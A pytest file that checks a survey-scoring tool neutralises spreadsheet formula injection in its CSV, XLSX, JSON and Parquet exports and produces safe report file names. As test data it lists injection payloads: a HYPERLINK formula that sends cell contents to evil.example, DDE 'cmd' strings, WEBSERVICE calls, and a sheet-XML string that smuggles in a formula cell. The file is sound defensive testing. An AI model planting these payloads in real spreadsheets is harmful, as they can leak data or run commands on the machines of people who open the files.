"""Hostile text in exports: no formula reaches a spreadsheet, no report overwrites another."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from hostile_inputs import chengdu_data, cli, every_command

from cfeval._safety import csv_text, file_stems, is_formula

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_recognised(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", ["-3", "+1.5e3", "C01", "", "a=b", "1-2"])
def test_numbers_and_plain_text_are_not_formulas(text):
    assert not is_formula(text)


def test_csv_text_quotes_and_prefixes_only_what_is_dangerous():
    df = pd.DataFrame({"=h": ["=1+1", "-3", 'a,"b"', None], "x": [1.5, 2.0, None, 4.0]})
    text = csv_text(df, index=False, lineterminator="\n", float_format="%.10g")
    assert text.splitlines() == ['"\'=h",x', '"\'=1+1",1.5', "-3,2", '"a,""b""",', ",4"]
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'=1+1"  # a reader sees the apostrophe, a spreadsheet shows text
    harmless = df.drop(columns="=h")
    assert csv_text(harmless, index=False) == harmless.to_csv(index=False)


def _hostile(tmp_path):
    ids = {
        "CD-CH-001": FORMULAS[0],
        "CD-CH-002": "\t=1+1",
        "CD-JJ-001": "@SUM(A1)",
    }
    names = {FORMULAS[0]: "+cmd|' /C calc'!A0", "\t=1+1": "-2+3", "@SUM(A1)": "=1+2"}

    def survey_edit(df):
        df = df.copy()
        df.loc[df.index[:3], "c_voice_listen"] = "=WEBSERVICE(1)"  # lands in the issues
        return df

    return chengdu_data(tmp_path / "data", ids, names, survey_edit=survey_edit)


def _all_texts_of_workbook(path):
    from openpyxl import load_workbook

    wb = load_workbook(path)  # not data_only: a formula would show as data_type "f"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def test_no_formula_reaches_any_export(tmp_path):
    survey, audit = _hostile(tmp_path)
    data = ["--survey", survey, "--audit", audit]
    runs = every_command(tmp_path, data, report=False)
    assert runs["xlsx"].exit_code == 1  # data problems (the bad answers), still written
    hostile = 0
    for sheet, cell in _all_texts_of_workbook(tmp_path / "scores.xlsx"):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if is_formula(cell.value):
            hostile += 1
            assert cell.data_type == "s" and cell.quotePrefix, (sheet, cell.coordinate)
    assert hostile >= 9  # ids and names in several sheets, the bad answers in the issues
    # CSV: each dangerous field is quoted and starts with an apostrophe.
    raw = (tmp_path / "scores.csv").read_text(encoding="utf-8")
    for line in raw.splitlines()[1:]:
        field = next(csv.reader([line]))[0]
        assert not is_formula(field)
        assert line.startswith("\"'")
    # JSON and Parquet keep the values (the reader strips the tab from an id).
    expected = {FORMULAS[0], "=1+1", "@SUM(A1)"}
    doc = json.loads((tmp_path / "scores.json").read_text(encoding="utf-8"))
    assert {c["community_id"] for c in doc["communities"]} == expected
    frame = pd.read_parquet(tmp_path / "scores.parquet")
    assert set(frame["community_id"]) == expected


def test_issues_csv_neutralises_values(tmp_path):
    survey, audit = _hostile(tmp_path)
    out = tmp_path / "issues.csv"
    run = cli("check", "chengdu-community", "--survey", survey, "--audit", audit, "-o", out)
    assert run.exit_code == 1, run.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    values = [r["value"] for r in rows if "WEBSERVICE" in (r["value"] or "")]
    assert values and all(v == "'=WEBSERVICE(1)" for v in values)
    assert all(not is_formula(v) for r in rows for v in r.values() if v)


def test_sample_writers_neutralise(tmp_path):
    from openpyxl import load_workbook

    from cfeval.sample.generate import _csv_bytes, _xlsx_bytes

    df = pd.DataFrame({"community_id": ["=1+1", "ok"], "n": [1, 2]})
    assert _csv_bytes(df).decode().splitlines()[1] == '"\'=1+1",1'
    (tmp_path / "s.xlsx").write_bytes(_xlsx_bytes(df, "survey"))
    cell = load_workbook(tmp_path / "s.xlsx").active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


# --------------------------------------------------------------------------- file names

COLLIDING = ["a/b", "a.b", "a b", "a\\b", "XH-01.", "(XH-01)", "XH-01", "comparison", "x" * 160]


def test_file_stems_are_unique_safe_capped_and_stable():
    stems = file_stems(COLLIDING)
    assert len(set(s.lower() for s in stems.values())) == len(COLLIDING)
    assert stems["XH-01"] == "XH-01"  # a safe id keeps its name
    assert stems["comparison"] != "comparison"
    assert all(len(s.encode()) <= 60 and "/" not in s and "\\" not in s for s in stems.values())
    assert file_stems(reversed(COLLIDING)) == stems
    assert file_stems(["A", "a"]) == {"A": "A", "a": "a-ca978112"}


def test_report_all_writes_one_pdf_per_community_and_lists_renames(tmp_path):
    ids = {"CD-CH-001": "a/b", "CD-CH-002": "a.b", "CD-JJ-001": "comparison"}
    long_name = "长" * 3000
    survey, audit = chengdu_data(tmp_path / "d", ids, names={"a/b": long_name})
    data = ["--survey", survey, "--audit", audit]
    out = tmp_path / "reports"
    run = cli(
        "report", "chengdu-community", *data, "--all", "--workers", "1", "--lang", "en", "-o", out
    )
    assert run.exit_code == 0, run.output
    assert "wrote 3 report(s)" in run.output
    assert "a/b -> a_b-" in run.output and "comparison -> comparison-" in run.output
    names = sorted(p.name for p in out.glob("*.pdf"))
    assert len(names) == 3 and "comparison_en.pdf" not in names  # left to --compare


def test_text_shaped_like_sheet_xml_stays_text_in_the_workbook(tmp_path):
    """A name of the form ``<r>…</r>`` went into the sheet raw (XlsxWriter's rich-text
    shortcut in constant-memory mode): here it would smuggle in a formula cell."""
    smuggler = '<r><t>a</t></r></is></c><c r="Z2"><f>HYPERLINK("http://evil.example")</f></c><c><is><r><t>b</t></r>'
    survey, audit = chengdu_data(tmp_path / "data", names={"CD-CH-001": smuggler})
    out = tmp_path / "scores.xlsx"
    run = cli("score", "chengdu-community", "--survey", survey, "--audit", audit, "-o", out)
    assert run.exit_code in (0, 1), run.output
    names = []
    for sheet, cell in _all_texts_of_workbook(out):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if cell.value == smuggler:
            names.append(sheet)
    assert names  # the name, read back exactly as it was given
